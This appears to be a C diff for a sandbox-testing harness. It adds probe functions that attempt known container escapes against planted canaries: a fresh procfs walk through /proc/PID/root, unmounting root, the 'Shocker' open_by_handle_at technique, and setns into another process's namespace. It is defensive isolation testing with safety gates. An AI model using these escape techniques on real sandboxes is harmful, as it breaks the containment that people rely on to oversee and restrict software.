@@ -13,6 +13,7 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/mount.h>
 #include <sys/ptrace.h>
 #include <sys/stat.h>
 #include <sys/uio.h>
@@ -162,5 +163,140 @@ sp_verb_vmread_canary(const struct sp_verb_call *v)
 	bool reached = r >= 0 || e == EFAULT;
 	sp_kv(v, "reached", "%d", reached);
 	sp_kv(v, "how", "%s", r >= 0 ? "read" : sp_errname(e));
+	return SP_OBSERVED;
+}
+
+/*
+ * chw00t #3 with a procfs of one's own: mount a fresh procfs read-only on DIR/mnt (only outside the
+ * host's mount namespace) and walk its PID/root links to the file canary.
+ */
+int
+sp_verb_escape_fresh_proc(const struct sp_verb_call *v)
+{
+	const char *dir = sp_probe_dir(), *canary = sp_opt("canary.file"),
+		   *id = sp_opt("canary.file.id");
+	if (dir == NULL || canary == NULL)
+		return sp_cannot(v, "needs the dir= option and the file canary");
+	if (!sp_ns_differs_from_host(v, "mnt")) {
+		sp_kv(v, "mount", "refused");
+		return SP_OBSERVED;
+	}
+	char target[4096];
+	snprintf(target, sizeof target, "%s/mnt", dir);
+	if (mount("proc", target, "proc", MS_RDONLY | MS_NOSUID | MS_NODEV | MS_NOEXEC, NULL) !=
+	    0) {
+		sp_kv(v, "mount", "%s", sp_errname(errno));
+		sp_kv(v, "reached", "0");
+		return SP_OBSERVED;
+	}
+	sp_kv(v, "mount", "ok");
+	char via[64] = "";
+	DIR *d = opendir(target);
+	for (struct dirent *e; d && (e = readdir(d)) != NULL && !via[0];) {
+		char path[8192];
+		struct stat st;
+		if (e->d_name[0] < '0' || e->d_name[0] > '9')
+			continue;
+		snprintf(path, sizeof path, "%s/%s/root%s", target, e->d_name, canary);
+		if (stat(path, &st) == 0 && sp_id_matches(id, &st))
+			snprintf(via, sizeof via, "fresh /proc/%.16s/root", e->d_name);
+	}
+	if (d)
+		closedir(d);
+	umount2(target, MNT_DETACH);
+	sp_kv(v, "reached", "%d", via[0] != '\0');
+	sp_kv(v, "how", "%s", via[0] ? via : "none");
+	return SP_OBSERVED;
+}
+
+/* umount2("/", MNT_DETACH) to uncover what is below the root; only in a private mount ns. */
+int
+sp_verb_escape_umount_root(const struct sp_verb_call *v)
+{
+	const char *canary = sp_opt("canary.file");
+	if (canary == NULL)
+		return sp_cannot(v, "needs the file canary");
+	if (!sp_ns_differs_from_host(v, "mnt")) {
+		sp_kv(v, "umount", "refused");
+		return SP_OBSERVED;
+	}
+	if (chdir("/") != 0)
+		return sp_cannot(v, "chdir /: %s", sp_errname(errno));
+	sp_kv(v, "umount", "%s", umount2("/", MNT_DETACH) == 0 ? "ok" : sp_errname(errno));
+	return sp_probe_file_canary(v, canary, sp_opt("canary.file.id"));
+}
+
+/*
+ * "Shocker": open_by_handle_at with the file canary's handle (computed by the harness with
+ * name_to_handle_at, passed as canary.file.handle=TYPE:HEX), relative to the probe directory,
+ * which sits on the same file system.  Needs CAP_DAC_READ_SEARCH in the initial user namespace.
+ */
+int
+sp_verb_escape_handle(const struct sp_verb_call *v)
+{
+	const char *dir = sp_probe_dir(), *h = sp_opt("canary.file.handle");
+	if (dir == NULL || h == NULL)
+		return sp_cannot(v, "needs the dir= option and canary.file.handle");
+	union {
+		struct file_handle fh;
+		char buf[sizeof(struct file_handle) + MAX_HANDLE_SZ];
+	} u;
+	int type;
+	char hex[2 * MAX_HANDLE_SZ + 1];
+	if (sscanf(h, "%d:%256s", &type, hex) != 2 || strlen(hex) % 2 ||
+	    strlen(hex) / 2 > MAX_HANDLE_SZ)
+		return sp_cannot(v, "bad canary.file.handle '%s'", h);
+	u.fh.handle_type = type;
+	u.fh.handle_bytes = (unsigned)(strlen(hex) / 2);
+	for (unsigned i = 0; i < u.fh.handle_bytes; i++) {
+		unsigned byte;
+		if (sscanf(hex + 2 * i, "%2x", &byte) != 1)
+			return sp_cannot(v, "bad canary.file.handle '%s'", h);
+		u.fh.f_handle[i] = (unsigned char)byte;
+	}
+	int mfd = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+	if (mfd < 0)
+		return sp_cannot(v, "open '%s': %s", dir, sp_errname(errno));
+	int fd = open_by_handle_at(mfd, &u.fh, O_RDONLY | O_CLOEXEC);
+	int e = errno;
+	close(mfd);
+	if (fd >= 0) {
+		struct stat st;
+		bool same = fstat(fd, &st) == 0 && sp_id_matches(sp_opt("canary.file.id"), &st);
+		close(fd);
+		sp_kv(v, "reached", "%d", same);
+		sp_kv(v, "how", "%s", same ? "opened-by-handle" : "other-file");
+	} else {
+		sp_kv(v, "reached", "0");
+		sp_kv(v, "how", "%s", sp_errname(e));
+	}
+	return SP_OBSERVED;
+}
+
+/*
+ * setns into the canary process's namespace TYPE.  Opening /proc/PID/ns/TYPE already proves the
+ * process is reachable; the setns itself is made only when this process's TYPE namespace is not
+ * the host's (from the host's own namespace there is nothing to escape to, and the safety gates
+ * of every later verb compare against the host's inodes, so they refuse after a successful join).
+ */
+int
+sp_verb_setns_canary(const struct sp_verb_call *v)
+{
+	const char *pid = sp_opt("canary.pid");
+	if (pid == NULL)
+		return sp_cannot(v, "the harness planted no canary.pid");
+	char path[128];
+	snprintf(path, sizeof path, "/proc/%.16s/ns/%.16s", pid, v->arg);
+	int fd = open(path, O_RDONLY | O_CLOEXEC);
+	if (fd < 0) {
+		sp_kv(v, "open", "%s", sp_errname(errno));
+		sp_kv(v, "reached", "0");
+		return SP_OBSERVED;
+	}
+	sp_kv(v, "open", "ok");
+	if (sp_ns_differs_from_host(v, v->arg))
+		sp_kv(v, "setns", "%s", setns(fd, 0) == 0 ? "ok" : sp_errname(errno));
+	close(fd);
+	sp_kv(v, "reached", "1");
 	return SP_OBSERVED;
 }
